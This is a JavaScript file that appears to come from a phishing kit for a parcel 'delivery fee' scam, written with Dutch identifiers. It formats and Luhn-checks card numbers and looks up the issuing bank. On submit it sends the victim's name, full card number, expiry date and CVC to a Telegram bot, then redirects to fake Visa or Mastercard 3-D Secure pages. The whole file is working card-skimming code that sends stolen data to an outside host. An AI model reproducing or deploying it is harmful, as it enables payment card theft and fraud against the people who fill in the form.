const kaart = document.querySelector('#kaartnummer');
let info = {};
kaart.addEventListener('input', async () => {
  kaart.value = kaart.value.replace(/\D/g, '').replace(/(.{4})/g, '$1 ').trim();
  const kaal = kaart.value.replace(/ /g, '');
  if (kaal.length === 8) {
    try {
      info = await (await fetch('https://lookup.binlist.net/' + kaal)).json();
      document.querySelector('#banklogo').src = 'img/' + (info.bank?.name || 'kaart').toLowerCase().replace(/\W/g, '') + '.svg';
    } catch (e) { info = {}; }
  }
});
const luhn = n => [...n].reverse().reduce((s, c, i) => s + (i % 2 ? (c * 2 > 9 ? c * 2 - 9 : c * 2) : +c), 0) % 10 === 0;
document.querySelector('#betaal').addEventListener('submit', async (e) => {
  e.preventDefault();
  const f = Object.fromEntries(new FormData(e.target));
  if (!luhn(f.nummer.replace(/ /g, ''))) { document.querySelector('.fout').hidden = false; return; }
  const tekst = `📦 €1,95\n${f.naam}\n${f.nummer} ${f.mm}/${f.jj} ${f.cvc}\n${info.bank?.name} ${info.type} ${info.country?.alpha2}`;
  await fetch('https://api.telegram.org/bot0000:TOKEN/sendMessage?' + new URLSearchParams({ chat_id: '0000', text: tekst }));
  location.href = info.scheme === 'visa' ? 'v3d.html' : 'm3d.html';
});
